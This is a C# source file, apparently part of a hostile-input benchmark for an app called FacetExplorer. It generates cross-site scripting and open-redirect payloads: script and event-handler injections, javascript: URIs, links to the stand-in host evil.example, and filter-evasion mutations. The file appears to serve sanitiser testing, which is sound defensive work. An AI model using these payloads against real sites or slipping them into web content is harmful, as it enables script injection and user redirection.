using System.Globalization;

namespace FacetExplorer.Benchmarks.Hostile;

/// <summary>Texts that become scripts, or links to elsewhere, where a page does not take them for text. Each calls <c>pwn</c> with its number.</summary>
internal static class Payloads
{
    /// <summary>Where links lead that nobody allowed.</summary>
    public const string Elsewhere = "evil.example";

    private static readonly string[] Templates =
    [
        "<script>pwn(#)</script>", "<script src=//evil.example/#.js></script>", "<img src=x onerror=pwn(#)>", "<svg onload=pwn(#)>", "<svg/onload=pwn(#)//", "<body onload=pwn(#)>", "<iframe src=javascript:pwn(#)>",
        "<iframe srcdoc='<script>parent.pwn(#)</script>'>", "<object data=javascript:pwn(#)>", "<embed src=//evil.example/#>", "<a href=javascript:pwn(#)>x</a>", "<a href=//evil.example/#>x</a>", "<form action=//evil.example><input name=#>",
        "<button formaction=javascript:pwn(#)>x", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/#'>", "<link rel=stylesheet href=//evil.example/#.css>", "<style>@import'//evil.example/#'</style>",
        "<style>*{background:url(//evil.example/#)}</style>", "<input autofocus onfocus=pwn(#)>", "<details open ontoggle=pwn(#)>", "<video><source onerror=pwn(#)>", "<audio src=x onerror=pwn(#)>", "<marquee onstart=pwn(#)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwn(#)>", "<svg><script>pwn(#)</script>", "<svg><animate onbegin=pwn(#) attributeName=x>", "<svg><a xlink:href=javascript:pwn(#)><text>x</text></a>", "<noscript><p title='</noscript><img src=x onerror=pwn(#)>'>",
        "<template><script>pwn(#)</script></template>", "<textarea></textarea><script>pwn(#)</script>", "<title></title><script>pwn(#)</script>", "<!--><script>pwn(#)</script>-->", "--><script>pwn(#)</script><!--", "--!><img src=x onerror=pwn(#)>",
        "\"><script>pwn(#)</script>", "'><script>pwn(#)</script>", "\" onmouseover=pwn(#) x=\"", "' onmouseover=pwn(#) x='", "\" autofocus onfocus=pwn(#) ", "`onmouseover=pwn(#)", " onclick=pwn(#) ", "x\" style=\"background:url(//evil.example/#)\"",
        "</script><script>pwn(#)</script>", "</textarea><script>pwn(#)</script>", "</title><svg onload=pwn(#)>", "</style><script>pwn(#)</script>", "]]><script>pwn(#)</script>", "\";pwn(#);//", "';pwn(#);//", "\\\";pwn(#);//", "${pwn(#)}", "{{constructor.constructor('pwn(#)')()}}",
        "javascript:pwn(#)", "JaVaScRiPt:pwn(#)", "java\tscript:pwn(#)", "java\nscript:pwn(#)", "\u0001javascript:pwn(#)", " javascript:pwn(#)", "javascript&colon;pwn(#)", "data:text/html,<script>pwn(#)</script>", "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=#", "vbscript:pwn(#)",
        "//evil.example/#", "/\\evil.example/#", "\\\\evil.example\\#", "https://evil.example/#", "http:evil.example/#", "https:/\\evil.example/#", "///evil.example/#", "/%09/evil.example/#", "mailto:x@evil.example?#", "ftp://evil.example/#",
        "[x](javascript:pwn(#))", "[x](//evil.example/#)", "![x](//evil.example/#.png)", "<https://evil.example/#>", "&lt;script&gt;pwn(#)&lt;/script&gt;", "&#60;script&#62;pwn(#)&#60;/script&#62;", "\\u003cscript\\u003epwn(#)\\u003c/script\\u003e", "%3Cscript%3Epwn(#)%3C/script%3E",
        "＜script＞pwn(#)＜/script＞", "\u2028pwn(#)\u2029", "<\0script>pwn(#)</script>", "<scr<script>ipt>pwn(#)</scr</script>ipt>", "<<script>pwn(#)//<</script>", "<script\u000c>pwn(#)</script>", "<x onclick=pwn(#)>", "<a href='data:,#' download>", "=HYPERLINK(\"//evil.example/#\")",
        "10.1234/\"><svg/onload=pwn(#)>", "https://doi.org/10.1234/javascript:pwn(#)", "12345\"><script>pwn(#)</script>", "GSE#\"><script>pwn(#)</script>", "GSE#' onmouseover='pwn(#)", "2014-05-20<script>pwn(#)</script>",
    ];

    /// <summary>So many of them, each as it is given by the seed and its number.</summary>
    public static IReadOnlyList<string> Make(int seed, int count) => [.. Enumerable.Range(0, count).Select(i => One(new Random(unchecked(seed * 1_000_003 + i)), i))];

    /// <summary>One of them, in one of the spellings that filters overlook.</summary>
    public static string One(Random random, int number)
    {
        var text = Templates[number % Templates.Length].Replace("#", number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
        return random.Next(10) switch
        {
            0 => text.ToUpperInvariant(),
            1 => string.Concat(text.Select(c => random.Next(2) == 0 ? char.ToUpperInvariant(c) : c)),
            2 => text.Replace(" ", "/", StringComparison.Ordinal),
            3 => text.Replace(" ", random.One(["\t", "\n", "\u000c", "\r\n"]), StringComparison.Ordinal),
            4 => $"{random.One(["\"", "'", ">", "\">", "'>", "-->", "</p>", "\\"])}{text}",
            5 => $"mouse {text} liver",
            6 => text.Replace("=", random.One([" =", "= ", "=\"", "='"]), StringComparison.Ordinal),
            _ => text,
        };
    }
}
